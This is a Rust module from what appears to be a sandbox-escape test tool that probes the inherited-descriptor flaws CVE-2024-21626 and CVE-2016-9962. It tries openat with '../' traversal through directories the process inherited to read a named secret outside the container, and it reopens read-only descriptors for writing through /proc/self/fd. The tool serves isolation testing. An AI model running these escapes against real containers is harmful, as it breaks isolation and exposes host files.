//! What the caller had open, and where it stood: CVE-2024-21626, CVE-2016-9962.

use std::fs;
use std::os::fd::{AsRawFd, BorrowedFd, RawFd};
use std::path::Path;

use nix::fcntl::{OFlag, openat};
use nix::sys::stat::Mode;

use crate::{Attempt, Report, Why, text};

/// `attack descriptors SECRET`: a file that is not in the box, by its name below a directory that may be open.
pub(crate) fn attack(report: &Report, arguments: &[String]) {
    let secret = text(arguments, 0);
    let mut open: Vec<RawFd> = (0..1024)
        // SAFETY is not needed: a number is only asked about by its name in /proc.
        .filter(|fd| fs::symlink_metadata(format!("/proc/self/fd/{fd}")).is_ok())
        .collect();
    open.retain(|fd| *fd > 2 || Path::new(&format!("/proc/self/fd/{fd}")).is_dir());
    let list: Vec<String> = open.iter().map(ToString::to_string).collect();
    report.line(
        "inherited",
        if list.is_empty() {
            Err("none is open".into())
        } else {
            Ok(list.join(","))
        },
    );
    report.line("directory", directories(&open, secret));
    report.line("file", files(&open));
    report.line("cwd", cwd(secret));
    report.line("null-stdin", stdin());
}

#[expect(
    unsafe_code,
    reason = "a descriptor that somebody else left open has no owner here"
)]
fn borrowed<'a>(fd: RawFd) -> BorrowedFd<'a> {
    // SAFETY: this process closes no descriptor that it did not open.
    unsafe { BorrowedFd::borrow_raw(fd) }
}

/// Reads the secret through a directory that is open, however far up it takes.
fn directories(open: &[RawFd], secret: &str) -> Attempt {
    for fd in open {
        for up in ["", "../", "../../", "../../../../../../"] {
            let path = format!("{up}{}", secret.trim_start_matches('/'));
            if let Ok(file) = openat(borrowed(*fd), path.as_str(), OFlag::O_RDONLY, Mode::empty()) {
                let path = format!("/proc/self/fd/{}", file.as_raw_fd());
                return fs::read_to_string(path).why();
            }
        }
    }
    Err("no directory leads out".into())
}

/// Opens again for writing what is open for reading.
fn files(open: &[RawFd]) -> Attempt {
    let again = |fd: &&RawFd| {
        fs::OpenOptions::new()
            .append(true)
            .open(format!("/proc/self/fd/{fd}"))
            .is_ok()
    };
    let found = open.iter().find(again);
    found
        .map(ToString::to_string)
        .ok_or_else(|| "no file of the caller's".into())
}

/// The working directory of the caller, which a chroot keeps.
fn cwd(secret: &str) -> Attempt {
    let name = Path::new(secret).file_name().unwrap_or_default();
    for up in ["", "..", "../..", "../../../../../.."] {
        let path = Path::new(up).join(name);
        if let Ok(text) = fs::read_to_string(&path) {
            return Ok(text);
        }
        let path = Path::new(up).join(secret.trim_start_matches('/'));
        if let Ok(text) = fs::read_to_string(&path) {
            return Ok(text);
        }
    }
    let here = std::env::current_dir().why()?;
    match here.starts_with("/") && here.is_dir() {
        true => Err(format!("{} is in the box", here.display())),
        false => Ok(here.display().to_string()),
    }
}

/// Closed standard descriptors are taken by the next file that anybody opens.
fn stdin() -> Attempt {
    for fd in 0..3 {
        let path = format!("/proc/self/fd/{fd}");
        let leads = fs::read_link(&path).unwrap_or_default();
        if Path::new(&path).is_dir() {
            return Ok(leads.display().to_string());
        }
    }
    Err("no directory is in place of one".into())
}
